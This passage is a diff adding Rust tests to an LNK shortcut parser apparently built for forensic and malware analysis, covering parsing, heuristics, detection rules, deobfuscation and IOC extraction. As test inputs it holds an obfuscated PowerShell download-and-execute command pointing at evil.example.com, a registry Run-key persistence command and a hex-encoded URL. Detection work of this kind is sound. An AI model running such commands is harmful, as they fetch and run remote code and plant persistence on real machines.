@@ -2,6 +2,18 @@ use glob::glob;
 use lnk_parser::LNKParser;
 use std::path::PathBuf;
 
+/// The path of a file in the samples directory.
+fn sample_path(parts: &[&str]) -> PathBuf {
+    std::iter::once("samples")
+        .chain(parts.iter().copied())
+        .collect()
+}
+
+/// Parse a file of the samples directory.
+fn sample(parts: &[&str]) -> LNKParser {
+    LNKParser::from_path(sample_path(parts).to_str().unwrap()).unwrap()
+}
+
 #[cfg(test)]
 #[test]
 fn test_win7() {
@@ -139,3 +151,1093 @@ fn test_mal() {
         }
     }
 }
+
+#[test]
+fn test_header_validation() {
+    let lnk_path = ["samples", "WIN7", "6.1_7601", "network_share.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let txt_path = ["samples", "WIN7", "6.1_7601", "metadata.txt"]
+        .iter()
+        .collect::<PathBuf>();
+
+    let lnk_data = std::fs::read(&lnk_path).unwrap();
+    let txt_data = std::fs::read(&txt_path).unwrap();
+
+    assert!(lnk_parser::is_lnk(&lnk_data));
+    assert!(!lnk_parser::is_lnk(&txt_data));
+    assert!(!lnk_parser::is_lnk(&lnk_data[..10]));
+
+    assert!(LNKParser::from_path(txt_path.to_str().unwrap()).is_err());
+
+    // Corrupt the CLSID, the default parser must reject it but the unchecked one should not.
+    let mut corrupted = lnk_data.clone();
+    corrupted[4] = 0xFF;
+    assert!(!lnk_parser::is_lnk(&corrupted));
+    assert!(LNKParser::from_buffer(&corrupted).is_err());
+    assert!(LNKParser::from_buffer_unchecked(&corrupted).is_ok());
+
+    // Non-zero reserved fields are reported.
+    let parsed = LNKParser::from_buffer(&lnk_data).unwrap();
+    assert!(parsed
+        .get_shell_link_header()
+        .non_zero_reserved_fields
+        .is_empty());
+    let mut tampered = lnk_data;
+    tampered[0x42] = 0x01;
+    let parsed = LNKParser::from_buffer(&tampered).unwrap();
+    assert_eq!(
+        parsed.get_shell_link_header().non_zero_reserved_fields,
+        vec!["reserved0"]
+    );
+}
+
+#[test]
+fn test_show_command() {
+    use lnk_parser::shell_link_header::ShowCommandOptions;
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let mut data = std::fs::read(&path).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    assert_eq!(
+        parsed.get_shell_link_header().get_show_command(),
+        &ShowCommandOptions::SHOWNORMAL
+    );
+
+    // ShowCommand is at offset 0x3C, values outside the SW_* set are preserved.
+    data[0x3C] = 0x20;
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let show_command = parsed.get_shell_link_header().get_show_command();
+    assert_eq!(show_command, &ShowCommandOptions::UNKNOWN(0x20));
+    assert_eq!(show_command.as_u32(), 0x20);
+}
+
+#[test]
+fn test_icon_index() {
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let mut data = std::fs::read(&path).unwrap();
+
+    // IconIndex is at offset 0x38, negative values are icon resource IDs.
+    data[0x38..0x3C].copy_from_slice(&(-2i32).to_le_bytes());
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let header = parsed.get_shell_link_header();
+    assert_eq!(header.icon_index, 0xFFFFFFFE);
+    assert_eq!(header.icon_index_signed(), -2);
+    assert_eq!(serde_json::to_value(header).unwrap()["icon_index"], -2);
+}
+
+#[test]
+fn test_link_target_id_list_helpers() {
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let data = std::fs::read(&path).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let id_list = parsed.get_link_target_id_list().as_ref().unwrap();
+
+    assert_eq!(
+        id_list.root_clsid().unwrap().to_string(),
+        "20D04FE0-3AEA-1069-A2D8-08002B30309D"
+    );
+    assert_eq!(
+        id_list.path_segments(),
+        vec!["MY_COMPUTER", "C:\\", "Windows", "System32", "cmd.exe"]
+    );
+
+    // The offsets point to the raw shell items in the file.
+    let entries = id_list.entries();
+    assert_eq!(entries.len(), 5);
+    assert_eq!(entries[0].offset, 0x4C + 2);
+    for entry in &entries {
+        let offset = entry.offset as usize;
+        assert_eq!(&data[offset..offset + entry.size as usize], entry.data);
+    }
+
+    let file_entries = id_list.file_entries();
+    assert_eq!(file_entries.len(), 3);
+    let cmd = &file_entries[2];
+    assert_eq!(cmd.name, "cmd.exe");
+    assert!(cmd.is_file);
+    assert_eq!(cmd.mft_entry, Some(42117));
+    assert_eq!(cmd.sequence_number, Some(1));
+    assert_eq!(
+        cmd.ctime.unwrap().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
+        "2021-06-05T12:05:14Z"
+    );
+    assert_eq!(
+        cmd.atime.unwrap().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
+        "2024-12-29T18:32:36Z"
+    );
+    assert_eq!(
+        cmd.mtime.unwrap().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
+        "2021-06-05T12:05:14Z"
+    );
+}
+
+#[test]
+fn test_normalized_record() {
+    use lnk_parser::NormalizedRecord;
+    use winparsingtools::traits::Normalize;
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let record = parsed.to_normalized_record();
+
+    assert_eq!(
+        record.target_full_path.as_deref(),
+        Some("C:\\Windows\\System32\\cmd.exe")
+    );
+    assert_eq!(record.target_size, 331776);
+    assert_eq!(record.target_hostname.as_deref(), Some("pc"));
+    assert_eq!(record.mac_address.as_deref(), Some("50:76:AF:A9:59:47"));
+    assert_eq!(
+        record
+            .target_creation_time
+            .unwrap()
+            .format("%Y-%m-%dT%H:%M:%SZ")
+            .to_string(),
+        "2021-06-05T12:05:12Z"
+    );
+
+    assert_eq!(
+        record.command_line_arguments.as_deref(),
+        Some("/c powershell.exe -c \"Write-Host This is a test\"")
+    );
+    assert_eq!(record.working_dir.as_deref(), Some("C:\\Windows\\System32"));
+    assert_eq!(record.drive_type.as_deref(), Some("DRIVE_FIXED"));
+    assert_eq!(record.drive_serial_number.as_deref(), Some("F40F-A5CF"));
+    assert!(record.link_flags.contains(&String::from("HasArguments")));
+
+    let names = record
+        .fields()
+        .iter()
+        .map(|(name, _)| *name)
+        .collect::<Vec<&str>>();
+    assert_eq!(names, NormalizedRecord::FIELDS);
+
+    // The `Normalize` trait returns the same values.
+    let normalized = parsed.normalize();
+    assert_eq!(normalized.len(), NormalizedRecord::FIELDS.len());
+    for (name, value) in record.fields() {
+        assert_eq!(normalized.get(name), Some(&value));
+    }
+
+    // The `Normalize` trait keeps the previous values of the missing MAC address and zero timestamps.
+    let path = ["samples", "WS19", "10.0_1809", "Süßspeisen.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let record = parsed.to_normalized_record();
+    assert!(record.mac_address.is_none());
+    assert!(record.target_creation_time.is_none());
+    let normalized = parsed.normalize();
+    assert_eq!(normalized["mac_address"], "00:00:00:00:00:00");
+    assert_eq!(normalized["target_creation_time"], "1601-01-01T00:00:00Z");
+    assert_eq!(
+        normalized["target_full_path"],
+        record.target_full_path.unwrap()
+    );
+}
+
+#[test]
+fn test_normalized_record_network_share() {
+    let path = ["samples", "WIN7", "6.1_7601", "network_share.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let record = LNKParser::from_path(path.to_str().unwrap())
+        .unwrap()
+        .to_normalized_record();
+
+    assert_eq!(
+        record.network_share_name.as_deref(),
+        Some("\\\\127.0.0.1\\TEST")
+    );
+    assert!(record.drive_type.is_none());
+    assert_eq!(
+        record.volume_droid.as_deref(),
+        Some("10B48A9A-815C-43CF-AE97-5ACD872532A6")
+    );
+}
+
+#[test]
+fn test_tracker_droid_info() {
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let tracker = parsed.get_extra_data().as_ref().unwrap().tracker().unwrap();
+
+    let file_droid = tracker.file_droid_info().unwrap();
+    assert_eq!(
+        file_droid.time.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
+        "2022-06-25T14:22:33Z"
+    );
+    assert_eq!(file_droid.clock_sequence, 0x33F0);
+    assert_eq!(file_droid.mac_address, "50:76:AF:A9:59:47");
+    assert_eq!(tracker.file_droid_birth_info(), Some(file_droid));
+    // Volume droids are random (version 4) UUIDs
+    assert!(tracker.volume_droid_info().is_none());
+
+    let record = parsed.to_normalized_record();
+    assert_eq!(record.file_droid_clock_sequence, Some(0x33F0));
+    assert_eq!(record.file_droid_time, record.file_droid_birth_time);
+    assert_eq!(
+        record.file_droid_birth_mac_address.as_deref(),
+        Some("50:76:AF:A9:59:47")
+    );
+    assert!(record.volume_droid_time.is_none());
+    assert!(record.volume_droid_birth_mac_address.is_none());
+
+    // Replace the volume droids with the version 1 file droids:
+    // TrackerDataBlock: BlockSize, BlockSignature (0xA0000003), Length, Version, MachineID (16 bytes),
+    // then the droids (volume, file, volume birth, file birth) 16 bytes each.
+    let mut data = std::fs::read(&path).unwrap();
+    let signature = data
+        .windows(4)
+        .position(|w| w == [0x03, 0x00, 0x00, 0xA0])
+        .unwrap();
+    let droids = signature + 4 + 8 + 16;
+    data.copy_within(droids + 16..droids + 32, droids);
+    data.copy_within(droids + 48..droids + 64, droids + 32);
+    let record = LNKParser::from_buffer(&data)
+        .unwrap()
+        .to_normalized_record();
+    assert_eq!(record.volume_droid_time, record.file_droid_time);
+    assert_eq!(record.volume_droid_clock_sequence, Some(0x33F0));
+    assert_eq!(
+        record.volume_droid_mac_address.as_deref(),
+        Some("50:76:AF:A9:59:47")
+    );
+    assert_eq!(record.volume_droid_birth_time, record.file_droid_birth_time);
+    assert_eq!(record.volume_droid_birth_clock_sequence, Some(0x33F0));
+    assert_eq!(
+        record.volume_droid_birth_mac_address.as_deref(),
+        Some("50:76:AF:A9:59:47")
+    );
+}
+
+#[test]
+fn test_tracker_move_analysis() {
+    use lnk_parser::extra_data::TrackerMoveStatus;
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let data = std::fs::read(&path).unwrap();
+    let move_status = |data: &[u8]| {
+        LNKParser::from_buffer(data)
+            .unwrap()
+            .get_extra_data()
+            .as_ref()
+            .unwrap()
+            .tracker()
+            .unwrap()
+            .move_analysis()
+    };
+
+    let analysis = move_status(&data);
+    assert_eq!(analysis.status, TrackerMoveStatus::Untouched);
+    assert!(!analysis.volume_changed);
+
+    // TrackerDataBlock: BlockSize, BlockSignature (0xA0000003), Length, Version, MachineID (16 bytes),
+    // then the droids (volume, file, volume birth, file birth) 16 bytes each.
+    let signature = data
+        .windows(4)
+        .position(|w| w == [0x03, 0x00, 0x00, 0xA0])
+        .unwrap();
+    let droids = signature + 4 + 8 + 16;
+    let volume_droid_birth = droids + 32;
+    let file_droid_birth = droids + 48;
+
+    let mut moved_volume = data.clone();
+    moved_volume[volume_droid_birth] ^= 0xFF;
+    let analysis = move_status(&moved_volume);
+    assert_eq!(analysis.status, TrackerMoveStatus::MovedAcrossVolumes);
+    assert!(analysis.volume_changed);
+    assert!(!analysis.file_droid_changed);
+
+    let mut moved_machine = data;
+    moved_machine[file_droid_birth + 15] ^= 0xFF;
+    let analysis = move_status(&moved_machine);
+    assert_eq!(analysis.status, TrackerMoveStatus::MovedAcrossMachines);
+    assert!(analysis.file_droid_changed);
+    assert!(analysis.machine_changed);
+}
+
+#[test]
+fn test_lnk_file_metadata() {
+    use chrono::{DateTime, Utc};
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let fs_metadata = std::fs::metadata(&path).unwrap();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let metadata = parsed.get_lnk_file_metadata().as_ref().unwrap();
+
+    assert_eq!(*metadata.get_size(), fs_metadata.len());
+    let modified: DateTime<Utc> = fs_metadata.modified().unwrap().into();
+    assert_eq!(*metadata.get_modified(), Some(modified));
+    // the access time changes when the file is read (by `from_path` or the other tests)
+    assert!(metadata.get_accessed().is_some());
+    assert_eq!(
+        *metadata.get_born(),
+        fs_metadata.created().ok().map(DateTime::<Utc>::from)
+    );
+
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::MetadataExt;
+        assert_eq!(*metadata.get_inode(), Some(fs_metadata.ino()));
+        assert_eq!(*metadata.get_mode(), Some(fs_metadata.mode()));
+        assert!(metadata.get_changed().is_some());
+    }
+
+    let record = parsed.to_normalized_record();
+    assert_eq!(record.lnk_modification_time, Some(modified));
+    assert_eq!(record.lnk_creation_time, *metadata.get_born());
+}
+
+#[test]
+fn test_hashes() {
+    use lnk_parser::LnkHashes;
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let hashes = parsed.get_hashes().as_ref().unwrap();
+
+    assert_eq!(hashes.get_md5(), "e8b00981d6a02f2c1308d2dbedfa4840");
+    assert_eq!(
+        hashes.get_sha1(),
+        "83b0b436a99774e041f9457f3ac5bc743f0653f7"
+    );
+    assert_eq!(
+        hashes.get_sha256(),
+        "d4d364927ef780f5592b7581c36fe8f4bdac596dc4d07c3995deeb1e1932c1a3"
+    );
+    assert_eq!(
+        &LnkHashes::from_buffer(&std::fs::read(&path).unwrap()),
+        hashes
+    );
+
+    let record = parsed.to_normalized_record();
+    assert_eq!(record.lnk_md5.as_deref(), Some(hashes.get_md5().as_str()));
+
+    // Hashes are only calculated when parsing from a path
+    let parsed = LNKParser::from_buffer(&std::fs::read(&path).unwrap()).unwrap();
+    assert!(parsed.get_hashes().is_none());
+}
+
+#[test]
+fn test_fingerprint() {
+    let data = std::fs::read(sample_path(&["mal", "exec_cmd_powershell.lnk"])).unwrap();
+    let fingerprint = LNKParser::from_buffer(&data).unwrap().fingerprint();
+
+    assert_eq!(fingerprint.hash.len(), 32);
+    assert_eq!(
+        fingerprint,
+        sample(&["mal", "exec_cmd_powershell.lnk"]).fingerprint()
+    );
+    assert_eq!(fingerprint.features.machine_id.as_deref(), Some("pc"));
+    assert!(fingerprint
+        .features
+        .extra_data_blocks
+        .contains(&"TrackerDataBlock:96".to_string()));
+    assert_eq!(
+        fingerprint.features.sections,
+        vec![
+            "ShellLinkHeader",
+            "LinkTargetIDList",
+            "LinkInfo",
+            "RelativePath",
+            "WorkingDir",
+            "CommandLineArguments",
+            "ExtraData"
+        ]
+    );
+
+    // Same builder but with a hot key
+    let other = sample(&["mal", "exec_cmd_powershell_with_shortcut.lnk"]).fingerprint();
+    assert_ne!(fingerprint.hash, other.hash);
+    assert_eq!(
+        fingerprint.features.extra_data_blocks,
+        other.features.extra_data_blocks
+    );
+
+    // Non-zero reserved fields are part of the structure
+    let mut modified = data.clone();
+    modified[0x44] = 1;
+    let modified = LNKParser::from_buffer_unchecked(&modified)
+        .unwrap()
+        .fingerprint();
+    assert_eq!(modified.features.reserved1, 1);
+    assert_ne!(fingerprint.hash, modified.hash);
+}
+
+#[test]
+fn test_analyze() {
+    use lnk_parser::analysis::Severity;
+
+    let data = std::fs::read(sample_path(&["mal", "exec_cmd_powershell.lnk"])).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    assert_eq!(parsed.overlay_size(), 0);
+
+    let findings = parsed.analyze();
+    let ids = findings.iter().map(|f| f.id).collect::<Vec<&str>>();
+    assert_eq!(ids, vec!["lolbin_target", "lolbin_in_arguments"]);
+    assert!(findings[1].rationale.contains("powershell.exe"));
+    assert!(findings.iter().all(|f| f.severity == Severity::Medium));
+
+    // Appended payload and a non-zero reserved field
+    let mut modified = data.clone();
+    modified[0x48] = 1;
+    modified.extend_from_slice(b"MZ\x90\x00payload");
+    let parsed = LNKParser::from_buffer(&modified).unwrap();
+    assert_eq!(parsed.overlay_size(), 11);
+    let findings = parsed.analyze();
+    assert_eq!(findings[0].id, "appended_overlay");
+    assert_eq!(findings[0].severity, Severity::High);
+    assert!(findings.iter().any(|f| f.id == "non_standard_header"));
+
+    // Benign shortcuts don't trigger any heuristic
+    let parsed = sample(&["WIN10", "1607_14393", "windows_generated.lnk"]);
+    assert!(parsed.analyze().is_empty());
+}
+
+#[cfg(feature = "rules")]
+#[test]
+fn test_rules() {
+    use lnk_parser::rules::RuleSet;
+
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+
+    let yaml_rules = RuleSet::from_yaml(
+        r#"
+rules:
+  - id: cmd_launching_powershell
+    description: cmd.exe used to launch PowerShell
+    condition:
+      all:
+        - field: target_full_path
+          ends_with: CMD.EXE
+          ignore_case: true
+        - field: command_line_arguments
+          regex: "(?i)powershell(\\.exe)?\\s"
+        - not:
+            field: extra_data.tracker.machine_id
+            equals: build-server
+  - id: has_arguments_flag
+    condition: {field: shell_link_header.flags, equals: HasArguments}
+  - id: big_target
+    condition: {field: shell_link_header.file_size, greater_than: 1000000}
+  - id: hot_key
+    condition: {field: shell_link_header.hot_key, exists: true}
+"#,
+    )
+    .unwrap();
+    let ids = yaml_rules
+        .evaluate(&parsed)
+        .into_iter()
+        .map(|m| m.id)
+        .collect::<Vec<String>>();
+    assert_eq!(ids, vec!["cmd_launching_powershell", "has_arguments_flag"]);
+
+    let toml_rules = RuleSet::from_toml(
+        r#"
+[[rules]]
+id = "machine_pc"
+condition = { field = "extra_data.extra_data_blocks.tracker.machine_id", equals = "pc" }
+
+[[rules]]
+id = "long_arguments"
+[rules.condition]
+any = [
+    { field = "command_line_arguments", length_greater_than = 260 },
+    { field = "link_info.volume_id.drive_type", equals = "DRIVE_REMOTE" },
+]
+"#,
+    )
+    .unwrap();
+    let matches = toml_rules.evaluate(&parsed);
+    assert_eq!(matches.len(), 1);
+    assert_eq!(matches[0].id, "machine_pc");
+
+    // Invalid regular expressions are reported when loading the rules
+    let error =
+        RuleSet::from_yaml("rules: [{id: bad, condition: {field: name_string, regex: '('}}]")
+            .unwrap_err();
+    assert!(error.to_string().contains("rule 'bad'"));
+}
+
+#[cfg(feature = "deobfuscation")]
+#[test]
+fn test_deobfuscation() {
+    use lnk_parser::deobfuscation::deobfuscate;
+
+    // PowerShell encoded command (base64 UTF-16LE) behind caret escapes
+    let decoded = deobfuscate("/c p^ower^shell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALgBjAG8AbQAvAHAALgBwAHMAMQAiACkA");
+    let techniques = decoded
+        .layers
+        .iter()
+        .map(|layer| layer.technique)
+        .collect::<Vec<&str>>();
+    assert!(techniques.contains(&"cmd_caret_escape"));
+    assert!(techniques.contains(&"powershell_encoded_command"));
+    assert!(decoded.layers.iter().any(|layer| layer.value
+        == "IEX (New-Object Net.WebClient).DownloadString(\"http://evil.example.com/p.ps1\")"));
+    assert_eq!(decoded.iocs.urls, vec!["http://evil.example.com/p.ps1"]);
+    assert_eq!(decoded.iocs.domains, vec!["evil.example.com"]);
+
+    // %VAR:~x,y% substrings of variables defined with `set` and of well known variables
+    let decoded = deobfuscate(
+        "/v /c set x=hlwrpoes&& %x:~4,1%%x:~5,1%%x:~2,1%%x:~-2,1%%x:~3,1%%x:~7%%x:~0,1%%x:~6,1%%x:~1,1%%x:~-7,-6% & %comspec:~-7,3% /c calc",
+    );
+    assert_eq!(decoded.layers[0].technique, "cmd_variable_substring");
+    assert_eq!(
+        decoded.layers[0].value,
+        "/v /c set x=hlwrpoes&& powershell & cmd /c calc"
+    );
+
+    // Out of range start and length values are clamped to the variable
+    let decoded = deobfuscate(
+        "set a=powershell&& cmd /c %a:~1,9223372036854775807% %a:~-9223372036854775808,3% %a:~3,-9223372036854775808%.",
+    );
+    assert_eq!(
+        decoded.layers[0].value,
+        "set a=powershell&& cmd /c owershell pow ."
+    );
+
+    // Char codes and hex blobs
+    let decoded = deobfuscate("-c iex([char]0x63+[char]97+[char]0x6C+[char]99)");
+    assert_eq!(decoded.layers[0].technique, "char_codes");
+    assert_eq!(decoded.layers[0].value, "-c iex(calc)");
+    let decoded = deobfuscate("-c $u=\"687474703a2f2f31302e302e302e352f78\"");
+    assert_eq!(decoded.layers[0].value, "http://10.0.0.5/x");
+    assert_eq!(decoded.iocs.ips, vec!["10.0.0.5"]);
+
+    // The arguments of a parsed file are decoded on demand
+    let parsed = sample(&["mal", "exec_cmd_powershell.lnk"]);
+    let decoded = parsed.deobfuscated_arguments().unwrap();
+    assert!(decoded.layers.is_empty());
+    assert_eq!(decoded.iocs.file_names, vec!["powershell.exe"]);
+}
+
+#[cfg(feature = "iocs")]
+#[test]
+fn test_iocs() {
+    use lnk_parser::iocs::{to_stix_bundle, IocType, Iocs};
+
+    let iocs = Iocs::extract_from(
+        "reg add HKCU\\Software\\Run /d \\\\files.example.org\\share\\a.vbs & mail admin@example.org http://1.2.3.4/x.ps1",
+    );
+    assert_eq!(iocs.registry_paths, vec!["HKCU\\Software\\Run"]);
+    assert_eq!(iocs.unc_hosts, vec!["files.example.org"]);
+    assert_eq!(iocs.emails, vec!["admin@example.org"]);
+    assert_eq!(iocs.urls, vec!["http://1.2.3.4/x.ps1"]);
+    assert_eq!(iocs.ips, vec!["1.2.3.4"]);
+    assert!(iocs.file_names.contains(&"a.vbs".to_string()));
+    assert!(iocs.domains.contains(&"files.example.org".to_string()));
+
+    let iocs = sample(&["WIN7", "6.1_7601", "network_share.lnk"]).iocs();
+    assert!(iocs.iter().any(|ioc| ioc.ioc_type == IocType::UncHost
+        && ioc.value == "127.0.0.1"
+        && ioc.source == "link_info.common_network_relative_link.net_name"));
+    // Strings of the ExtraData blocks that are not implemented
+    assert!(iocs
+        .iter()
+        .any(|ioc| ioc.source.starts_with("extra_data.") && ioc.ioc_type == IocType::FilePath));
+    // The metadata of the LNK file itself is not part of the IOCs
+    assert!(iocs
+        .iter()
+        .all(|ioc| !ioc.source.starts_with("lnk_file_metadata")));
+
+    // An indicator per unique IOC with deterministic identifiers
+    let created = chrono::Utc::now();
+    let bundle = to_stix_bundle(&iocs, created);
+    let objects = bundle["objects"].as_array().unwrap();
+    let ip = objects
+        .iter()
+        .find(|o| o["pattern"] == "[ipv4-addr:value = '127.0.0.1']")
+        .unwrap();
+    assert!(ip["x_lnk_source_fields"].as_array().unwrap().len() > 1);
+    // The UNC host is an IP address, not a domain name
+    assert!(ip["x_lnk_source_fields"]
+        .as_array()
+        .unwrap()
+        .contains(&"link_info.common_network_relative_link.net_name".into()));
+    assert!(objects
+        .iter()
+        .all(|o| o["pattern"] != "[domain-name:value = '127.0.0.1']"));
+    assert_eq!(bundle, to_stix_bundle(&iocs, created));
+}
+
+#[test]
+fn test_timestamp_anomalies() {
+    use chrono::{TimeZone, Utc};
+    use std::convert::TryInto;
+
+    let now = Utc.with_ymd_and_hms(2025, 1, 1, 0, 0, 0).unwrap();
+    let data = std::fs::read(sample_path(&["mal", "exec_cmd_powershell.lnk"])).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    assert!(parsed.timestamp_anomalies_at(now).is_empty());
+
+    // Timestamps after the current time
+    let past = Utc.with_ymd_and_hms(2000, 1, 1, 0, 0, 0).unwrap();
+    let findings = parsed.timestamp_anomalies_at(past);
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].id, "future_timestamp");
+    assert!(findings[0].rationale.contains("ShellLinkHeader ctime"));
+
+    // Zero the sub-second part of the header FILETIMEs (multiples of 10_000_000)
+    let mut modified = data.clone();
+    for offset in [0x1C, 0x24, 0x2C].iter() {
+        let mut value = u64::from_le_bytes(modified[*offset..*offset + 8].try_into().unwrap());
+        value -= value % 10_000_000;
+        modified[*offset..*offset + 8].copy_from_slice(&value.to_le_bytes());
+    }
+    let parsed = LNKParser::from_buffer(&modified).unwrap();
+    let ids = parsed
+        .timestamp_anomalies_at(now)
+        .iter()
+        .map(|f| f.id)
+        .collect::<Vec<&str>>();
+    assert!(ids.contains(&"whole_second_timestamps"));
+
+    // A newly created target has identical header times, they are only reported with another signal
+    let mut identical = data.clone();
+    identical.copy_within(0x1C..0x24, 0x24);
+    identical.copy_within(0x1C..0x24, 0x2C);
+    let parsed = LNKParser::from_buffer(&identical).unwrap();
+    assert!(parsed.timestamp_anomalies_at(now).is_empty());
+    for offset in [0x1C, 0x24, 0x2C].iter() {
+        identical[*offset..*offset + 8].copy_from_slice(&modified[0x1C..0x24]);
+    }
+    let parsed = LNKParser::from_buffer(&identical).unwrap();
+    let ids = parsed
+        .timestamp_anomalies_at(now)
+        .iter()
+        .map(|f| f.id)
+        .collect::<Vec<&str>>();
+    assert!(ids.contains(&"identical_target_timestamps"));
+
+    let parsed = sample(&["WS19", "10.0_1809", "Süßspeisen.lnk"]);
+    let findings = parsed.timestamp_anomalies_at(now);
+    assert_eq!(findings[0].id, "zeroed_target_timestamps");
+}
+
+#[test]
+fn test_bodyfile_entries() {
+    let parsed = sample(&["WIN10", "1607_14393", "manual.lnk"]);
+    let entries = parsed.bodyfile_entries();
+    assert_eq!(entries.len(), 2);
+
+    let lnk_full_path = parsed
+        .get_lnk_file_metadata()
+        .as_ref()
+        .unwrap()
+        .get_full_path();
+    assert_eq!(entries[0].md5, "5b9398843b169a434577c181db4951da");
+    assert_eq!(
+        entries[0].name,
+        format!(
+            "{} -> C:\\Users\\u0041\\Desktop\\test\\test.txt",
+            lnk_full_path
+        )
+    );
+    assert_eq!(entries[0].size, 983);
+
+    let target = entries[1].to_string();
+    let fields = target.split('|').collect::<Vec<&str>>();
+    assert_eq!(fields.len(), 11);
+    assert_eq!(
+        fields[1],
+        format!(
+            "C:\\Users\\u0041\\Desktop\\test\\test.txt (LNK: {})",
+            lnk_full_path
+        )
+    );
+    assert_eq!(fields[3], "r/r---------");
+    assert_eq!(
+        &fields[6..],
+        &["4", "1612788063", "1612788118", "0", "1612788063"]
+    );
+
+    // Without the file system metadata only the target row is available
+    let data = std::fs::read(sample_path(&["WIN10", "1607_14393", "manual.lnk"])).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let entries = parsed.bodyfile_entries();
+    assert_eq!(entries.len(), 1);
+    assert_eq!(
+        entries[0].to_string(),
+        "0|C:\\Users\\u0041\\Desktop\\test\\test.txt|0|r/r---------|0|0|4|1612788063|1612788118|0|1612788063"
+    );
+}
+
+#[test]
+fn test_timeline_events() {
+    let data = std::fs::read(sample_path(&["mal", "exec_cmd_powershell.lnk"])).unwrap();
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let events = parsed.timeline_events();
+
+    // 3 header times, 3 FileEntry shell items with 3 times each and 2 droid times
+    assert_eq!(events.len(), 14);
+    assert!(events.windows(2).all(|w| w[0].timestamp <= w[1].timestamp));
+    assert!(events.iter().all(|e| e.lnk_full_path.is_none()));
+
+    let event = events
+        .iter()
+        .find(|e| e.description == "'cmd.exe' access time")
+        .unwrap();
+    assert_eq!(event.source, "ExtensionBlock");
+    let tln = event.to_tln();
+    let fields = tln.split('|').collect::<Vec<&str>>();
+    assert_eq!(fields.len(), 5);
+    assert_eq!(fields[0], event.timestamp.timestamp().to_string());
+    assert_eq!(fields[1], "LNK");
+    assert_eq!(fields[2], event.host.to_owned().unwrap_or_default());
+    assert_eq!(
+        fields[4],
+        "ExtensionBlock 'cmd.exe' access time - C:\\Windows\\System32\\cmd.exe"
+    );
+
+    let header = events
+        .iter()
+        .filter(|e| e.source == "ShellLinkHeader")
+        .count();
+    assert_eq!(header, 3);
+    assert_eq!(
+        events[0].fields()[0],
+        (
+            "timestamp",
+            events[0].timestamp.format("%Y-%m-%dT%H:%M:%SZ").to_string()
+        )
+    );
+}
+
+#[cfg(feature = "sqlite")]
+#[test]
+fn test_sqlite_writer() {
+    use lnk_parser::sqlite::SqliteWriter;
+    use rusqlite::Connection;
+
+    let mut writer = SqliteWriter::from_connection(Connection::open_in_memory().unwrap()).unwrap();
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let id = writer.write(&parsed, &parsed.analyze()).unwrap();
+    writer
+        .write_rule_match(id, "cmd_launching_powershell", None)
+        .unwrap();
+    let path = ["samples", "WIN10", "1607_14393", "manual.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    writer.write(&parsed, &[]).unwrap();
+    let connection = writer.finish().unwrap();
+
+    let count = |sql: &str| -> i64 { connection.query_row(sql, [], |row| row.get(0)).unwrap() };
+    assert_eq!(count("SELECT COUNT(*) FROM lnk_files"), 2);
+    assert_eq!(count("SELECT COUNT(*) FROM targets"), 2);
+    assert_eq!(count("SELECT COUNT(*) FROM tracker"), 2);
+    assert_eq!(
+        count("SELECT COUNT(*) FROM shell_items WHERE lnk_file_id = 1"),
+        5
+    );
+    assert_eq!(
+        count("SELECT COUNT(*) FROM findings WHERE lnk_file_id = 1 AND source = 'analysis'"),
+        2
+    );
+
+    let (target, machine_id, rule): (String, String, String) = connection
+        .query_row(
+            "SELECT t.full_path, k.machine_id, f.finding_id FROM lnk_files l
+            JOIN targets t ON t.lnk_file_id = l.id
+            JOIN tracker k ON k.lnk_file_id = l.id
